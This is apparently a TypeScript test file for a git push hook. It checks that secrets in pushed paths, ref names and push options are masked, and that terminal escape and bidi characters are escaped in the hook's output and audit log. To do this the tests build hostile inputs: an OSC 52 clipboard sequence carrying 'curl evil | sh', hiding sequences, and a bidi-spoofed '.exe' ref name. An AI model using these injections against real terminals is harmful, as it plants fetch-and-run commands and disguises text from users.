import t, { type Test } from 'tap';
import { formatNotes, formatReport, jsonLine } from '../../src/hook/message.js';
import { pushOptionsFromEnv } from '../../src/policy/decide.js';
import { auditRecords, testServer, WorkTree, type Pushed } from '../helpers/git-server.js';
import { gh, Rng } from '../scan/fixtures.js';

/**
 * Text a pusher controls — paths, lines around a secret, ref names, push
 * options — reaches the pusher's terminal (and, parked, a reviewer's) through
 * the hook's output, which git relays verbatim after `remote: `. None of it
 * may carry a terminal control sequence, a line break, a bidi override or a
 * credential in plaintext.
 */
const rng = new Rng(0xe5c);
const server = testServer(t);
const remote = server.createRepo('team/app');
const work = WorkTree.clone(t, remote);
work.commit('first', { 'README.md': 'hello\n' });
t.equal(work.push(['origin', 'main']).code, 0);

const ESC = '\u001b';
const OSC52 = `${ESC}]52;c;${Buffer.from('curl evil | sh').toString('base64')}\u0007`;
const HIDE = `${ESC}[8m`;
const CSI8 = '\u009b8m';
/** Every character that acts on a terminal or reorders what a reader sees. */
// eslint-disable-next-line no-control-regex
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]/u;

/** What the hook printed, as the pusher's terminal receives it. */
function fromHook(pushed: Pushed): string {
  return pushed.output.split('\n').filter((l) => l.startsWith('remote: ')).join('\n');
}

function safeOutput(t: Test, pushed: Pushed, secrets: string[] = []): string {
  const text = fromHook(pushed);
  t.ok(text.length > 0, 'the hook printed something');
  t.notOk(UNSAFE.test(text), `no raw control, bidi or line-separator character: ${JSON.stringify(text.slice(0, 400))}`);
  for (const secret of secrets) t.notOk(text.includes(secret), 'no credential in plaintext');
  t.equal(pushed.resultLines, 1, 'one result line: nothing broke it apart');
  return text;
}

function resetToRemote(): void {
  work.git('fetch', '--quiet', 'origin');
  work.git('reset', '--quiet', '--hard', 'origin/main');
}

t.test('a path and a line with escape sequences around a secret are shown escaped', async (t) => {
  const token = gh(rng);
  const path = `docs/${OSC52}${HIDE}notes\u202e.txt`;
  work.commit('leak', { [path]: `${HIDE}const token = "${token}"; ${OSC52}\n` });
  const pushed = work.push(['origin', 'HEAD:refs/heads/leak']);
  t.equal(pushed.result?.decision, 'deny', pushed.output.slice(0, 600));
  const text = safeOutput(t, pushed, [token]);
  t.match(text, /\\e\]52;c;/, 'the OSC 52 sequence is visible as an escape');
  t.match(text, /\\e\[8m/, 'the hiding sequence is visible');
  t.match(text, /\\u\{202e\}|\\u202e/, 'the bidi override is visible');
  const finding = pushed.result?.findings.find((f) => f.rule.startsWith('secret.'));
  t.ok(finding?.path?.includes('\\e]52;c;'), 'the JSON line carries the escaped path');
  resetToRemote();
});

t.test('a sensitive path with an 8-bit CSI is shown escaped', async (t) => {
  work.commit('workflow', { [`.github/workflows/${CSI8}ci.yml`]: 'on: push\n' });
  const pushed = work.push(['origin', 'HEAD:refs/heads/wf']);
  t.ok(pushed.result?.findings.some((f) => f.rule === 'path.ci-workflow'), pushed.output.slice(0, 600));
  const text = safeOutput(t, pushed);
  t.match(text, /\\x9b8mci\.yml/);
  resetToRemote();
});

t.test('push options: the reason is masked and escaped in the message and in the audit record', async (t) => {
  const token = gh(rng);
  const before = auditRecords(server.dir).length;
  work.commit('needs review', { 'a.txt': `token = "${gh(rng)}"\n` });
  const reason = `false positive ${HIDE}${OSC52} see ${token} \u2028 \u202edone`;
  const pushed = work.push(['-o', `review=${reason}`, 'origin', 'HEAD:refs/heads/review-me']);
  t.equal(pushed.result?.decision, 'park', pushed.output.slice(0, 600));
  const text = safeOutput(t, pushed, [token]);
  t.match(text, /\\e\[8m/);
  t.equal(typeof pushed.result?.reason, 'string');
  t.notOk(String(pushed.result?.reason).includes(token));
  const records = auditRecords<Record<string, unknown>>(server.dir).slice(before);
  const decision = records.find((r) => r.type === 'push.decision');
  t.ok(decision, 'the decision was recorded');
  const stored = JSON.stringify(records);
  t.notOk(stored.includes(token), 'the audit log never holds the credential');
  t.notOk(UNSAFE.test(String(decision?.reason)), 'the stored reason has no raw control characters');
  t.match(String(decision?.reason), /false positive \\e\[8m/);
  resetToRemote();
});

t.test('a bidi ref name is refused and shown escaped', async (t) => {
  const pushed = work.push(['origin', 'HEAD:refs/heads/fix\u202egnp.exe']);
  t.equal(pushed.result?.decision, 'deny');
  safeOutput(t, pushed);
  const record = auditRecords<{ type: string; refUpdates?: { ref: string }[] }>(server.dir).filter((r) => r.type === 'push.decision').at(-1);
  t.notOk(UNSAFE.test(JSON.stringify(record?.refUpdates ?? []).replace(/\\u[0-9a-f]{4}/g, '')), 'the audit record holds the ref escaped');
  t.ok(record?.refUpdates?.some((u) => u.ref.includes('\\u{202e}')));
});

t.test('message helpers', async (t) => {
  const line = jsonLine({ a: '\u2028\u2029\u0085\u009b\u202e\u200b\u007f' });
  t.notOk(UNSAFE.test(line), 'jsonLine leaves nothing raw that JSON.stringify leaves raw');
  t.same(JSON.parse(line), { a: '\u2028\u2029\u0085\u009b\u202e\u200b\u007f' }, 'and parses back to the same value');
  const token = gh(rng);
  const notes = formatNotes([`a note with ${HIDE} and\nanother line and ${token}`]);
  t.equal(notes.split('\n').length, 2, 'one line per note');
  t.notOk(UNSAFE.test(notes.slice(0, -1)));
  t.notOk(notes.includes(token));
  const report = formatReport({
    decision: 'deny', repository: `team/${ESC}[2Japp`, error: `bad ${OSC52}`, reason: `r ${token}`,
    findings: [{ ruleId: 'secret.x', title: `t ${HIDE}`, action: 'deny', mode: 'enforce', ref: `refs/heads/${CSI8}`, path: `p\r\n${ESC}[1A`, excerpt: `e ${ESC}[8m`, note: `n ${ESC}`, fix: `f ${ESC}` }],
  });
  t.notOk(UNSAFE.test(report.replace(/\n/g, '')), 'formatReport escapes every field');
  t.notOk(report.includes(token));
  t.equal(report.trimEnd().split('\n').filter((l) => l.startsWith('pushgate-result: ')).length, 1);
});

t.test('push options come out of the environment masked', async (t) => {
  const token = gh(rng);
  const options = pushOptionsFromEnv({ GIT_PUSH_OPTION_COUNT: '2', GIT_PUSH_OPTION_0: `reason=uses ${token}`, GIT_PUSH_OPTION_1: 'review' });
  t.notOk(options.raw.join(' ').includes(token));
  t.notOk((options.values.get('reason') ?? '').includes(token));
  t.ok(options.values.has('review'));
  t.match(options.values.get('reason'), /^uses /);
});
